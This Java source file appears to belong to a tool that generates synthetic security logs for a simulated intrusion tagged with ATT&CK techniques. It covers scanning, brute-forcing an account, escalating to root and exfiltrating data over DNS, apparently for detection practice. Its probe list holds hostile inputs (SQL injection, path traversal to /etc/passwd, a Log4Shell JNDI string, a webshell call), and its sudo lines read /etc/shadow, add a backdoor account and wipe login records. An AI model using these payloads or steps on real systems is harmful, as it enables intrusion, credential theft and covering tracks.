package dev.nightjar.cli.generate;

import dev.nightjar.cli.generate.SuricataLog.Flow;
import java.time.Duration;
import java.time.Instant;
import java.util.List;

/// The attack inside the day. A stranger looks for open doors (T1046), probes the web site (T1595.002), guesses the
/// password of an account that deploys software (T1110.001) until one fits (T1078), becomes root (T1548.003), makes an
/// account to come back by (T1136.001) and carries data out by questions to a name server (T1048.003, T1071.004).
///
/// @param start when the scan begins; the whole takes some two hours
/// @param address from which the intruder comes
/// @param account whose password is guessed
/// @param backdoor the account that is left behind
/// @param domain whose name server collects what is carried out
record Intrusion(Instant start, String address, String account, String backdoor, String domain) {
    private static final String SCANNER =
            "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)";

    private static final List<String> PROBES = List.of(
            "/.env",
            "/.git/config",
            "/wp-login.php",
            "/phpmyadmin/index.php",
            "/../../../../etc/passwd",
            "/index.php?id=1%20UNION%20SELECT%201,2,3--",
            "/cgi-bin/test.cgi",
            "/backup.sql",
            "/server-status",
            "/?x=${jndi:ldap://203.0.113.66:1389/a}",
            "/admin/",
            "/shell.php?cmd=id");

    static Intrusion of(Dice dice, Instant from, Instant to) {
        Duration day = Duration.between(from, to);
        return new Intrusion(
                from.plus(dice.duration(
                        day.multipliedBy(50).dividedBy(100),
                        day.multipliedBy(80).dividedBy(100))),
                Internet.intruder(dice),
                dice.pick(List.of("deploy", "release", "jenkins", "ansible", "gitops")) + dice.between(2, 9),
                dice.pick(List.of("svc-update", "sysmon", "backup-agent", "ntpd-helper")) + dice.between(10, 99),
                dice.pick(List.of("sync", "metrics", "relay", "assets")) + "-" + dice.hex(4) + ".example");
    }

    void write(Organisation us, Logs logs, Dice dice) {
        var sensor = new SuricataLog(logs, us.feed(us.sensor(), "suricata"), dice.branch("sensor"));
        scan(us, logs, dice.branch("scan"), sensor);
        probe(us, logs, dice.branch("probe"));
        Instant inside = guess(us, logs, dice.branch("guess"));
        becomeRoot(us, logs, inside, dice.branch("root"));
        carryOut(us, logs, inside.plus(Duration.ofMinutes(18)), dice.branch("dns"), sensor);
    }

    private void scan(Organisation us, Logs logs, Dice dice, SuricataLog sensor) {
        Feed firewall = us.feed(us.gateway(), "netfilter");
        int fromPort = dice.clientPort();
        Instant t = start;
        for (String target : List.of(Organisation.PUBLIC_WEB, Organisation.PUBLIC_SHOP, Organisation.PUBLIC_BASTION)) {
            for (int i = 0; i < 120; i++) {
                FirewallLog.droppedSyn(
                        logs, firewall, t, dice, address, fromPort, target, 1 + i * 83 + dice.between(0, 60));
                t = t.plusMillis(dice.between(60, 400));
            }
            sensor.alert(
                    t,
                    new Flow(address, fromPort, target, dice.between(1, 1_024), "TCP"),
                    1_000_001,
                    "LOCAL SCAN many closed ports from one source",
                    "Attempted Information Leak",
                    2);
        }
    }

    private void probe(Organisation us, Logs logs, Dice dice) {
        Instant t = start.plus(Duration.ofMinutes(6));
        for (String target : PROBES) {
            AccessLog.write(logs, us.feed(us.web(), "nginx"), t, address, "GET", target, 404, 153, "-", SCANNER);
            t = t.plusMillis(dice.between(90, 900));
        }
    }

    /// Guesses until a password fits; answers when it did.
    private Instant guess(Organisation us, Logs logs, Dice dice) {
        var auth = new AuthLog(logs, us.auth(us.bastion()), false);
        Instant t = start.plus(Duration.ofMinutes(20));
        for (int i = 0; i < 64; i++) {
            boolean known = i % 8 != 0;
            String user = known ? account : dice.pick(List.of("root2", "admin", "svc", "operator"));
            auth.failed(t, dice.between(2_000, 60_000), user, known, address, dice.clientPort());
            t = t.plusMillis(dice.between(2_500, 5_000));
        }
        int pid = dice.between(2_000, 60_000);
        int port = dice.clientPort();
        auth.accepted(t.plusSeconds(4), pid, "password", account, address, port);
        auth.left(t.plus(Duration.ofMinutes(70)), pid, account, address, port);
        return t.plusSeconds(4);
    }

    private void becomeRoot(Organisation us, Logs logs, Instant inside, Dice dice) {
        var auth = new AuthLog(logs, us.auth(us.bastion()), false);
        String home = "/home/" + account;
        int pid = dice.between(2_000, 50_000);
        auth.sudo(inside.plusSeconds(50), pid, account, "pts/1", home, "/usr/bin/cat /etc/shadow");
        auth.sudo(inside.plusSeconds(95), pid + 9, account, "pts/1", home, "/bin/bash");
        auth.sudo(
                inside.plusSeconds(140),
                pid + 20,
                account,
                "pts/1",
                home,
                "/usr/sbin/useradd -m -s /bin/bash " + backdoor);
        auth.newUser(inside.plusSeconds(140), pid + 22, backdoor, 1_990, "sudo");
        auth.sudo(inside.plusSeconds(190), pid + 60, account, "pts/1", home, "/usr/bin/truncate -s 0 /var/log/wtmp");
    }

    /// Data in the labels of names under one domain (RFC 1035: at most 63 octets a label), a question every few
    /// seconds.
    private void carryOut(Organisation us, Logs logs, Instant begin, Dice dice, SuricataLog sensor) {
        Feed resolver = us.feed(us.resolver(), "bind");
        Instant t = begin;
        for (int i = 0; i < 240; i++) {
            String name = dice.text("abcdefghijklmnopqrstuvwxyz234567", 52) + "."
                    + dice.text("abcdefghijklmnopqrstuvwxyz234567", 34) + "." + Integer.toHexString(i) + ".t." + domain;
            DnsLog.bind(
                    logs,
                    resolver,
                    t,
                    dice,
                    us.bastion().address(),
                    name,
                    "TXT",
                    us.resolver().address());
            sensor.dns(
                    t,
                    new Flow(
                            us.bastion().address(),
                            dice.clientPort(),
                            us.resolver().address(),
                            53,
                            "UDP"),
                    name,
                    "TXT");
            t = t.plusMillis(dice.between(4_000, 15_000));
        }
    }
}
